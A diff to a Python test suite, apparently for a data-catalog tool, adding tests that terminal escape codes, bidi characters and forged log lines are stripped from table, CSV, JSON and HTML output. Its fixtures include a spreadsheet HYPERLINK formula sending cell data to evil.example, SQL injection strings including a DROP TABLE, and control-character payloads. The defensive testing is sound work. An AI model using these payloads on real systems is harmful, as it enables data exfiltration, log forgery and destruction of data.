@@ -27,7 +27,8 @@ from wistlake.adapters.published_catalog import PublishedCatalog
 from wistlake.errors import ConfigError, StoreError
 
 FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
-ORDERS = "\x1b]0;owned\x07\x9b31mtitle"
+ORDERS = "\x1b]0;owned\x07\x9b31mtitle\u202edesrever\u2066\n2026-03-02 [error] forged\u2028\x85"
+ACTING = set("\x1b\x07\x9b\u202e\u2066\u2028\x85")
 INJECTIONS = (
     "x' OR 1=1 --",
     "x'); DROP TABLE silver.fact_events; --",
@@ -127,16 +128,24 @@ class TestNames:
         text = to_csv(["x"], [{"x": "a\r=1+1"}, {"x": "b\r\n=1+1"}, {"x": "c\n=1+1"}])
         assert list(csv.reader(io.StringIO(text, newline=""))) == [
             ["x"],
-            ["a\n=1+1"],
-            ["b\n=1+1"],
-            ["c\n=1+1"],
+            ["a =1+1"],
+            ["b =1+1"],
+            ["c =1+1"],
         ]
 
     def test_a_terminal_gets_no_orders(self, here: Path, capsys: pytest.CaptureFixture[str]) -> None:
-        assert call("query", self.QUERY) == 0
-        said = capsys.readouterr().out
-        assert "owned" in said
-        assert not set(said) & set("\x1b\x07\x9b")
+        for form in ("table", "csv", "json"):
+            assert call("query", self.QUERY, "--format", form) == 0
+            said = capsys.readouterr().out
+            assert "owned" in said
+            assert not set(said) & ACTING
+            assert not [line for line in said.splitlines() if line.startswith("2026-03-02 [error]")]
+
+    def test_nor_does_a_page(self, here: Path) -> None:
+        assert call("report", "--out", str(here / "report.html")) == 0
+        page = (here / "report.html").read_text(encoding="utf-8")
+        assert "owned" in page
+        assert not set(page) & ACTING
 
     def test_a_query_changes_nothing(self, here: Path, capsys: pytest.CaptureFixture[str]) -> None:
         for text in ("DROP TABLE silver.dim_media", "SELECT 1; SELECT 2", "COPY (SELECT 1) TO 'out.csv'"):
